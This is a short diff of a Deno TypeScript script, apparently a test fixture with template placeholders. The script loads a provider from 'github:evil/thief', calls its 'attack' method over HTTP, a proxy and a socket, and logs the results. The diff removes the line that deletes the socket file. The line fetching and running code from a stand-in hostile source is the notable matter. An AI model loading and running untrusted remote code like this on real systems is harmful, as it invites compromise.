@@ -8,5 +8,4 @@ const provider: any = await getProvider('github:evil/thief');
 for (const line of await provider.attack({ http: '{{http}}', proxy: '{{proxy}}', socket })) console.log(line);
 console.log('connections:', connections);
 server.close();
-Deno.removeSync(socket);
 Deno.exit(0);
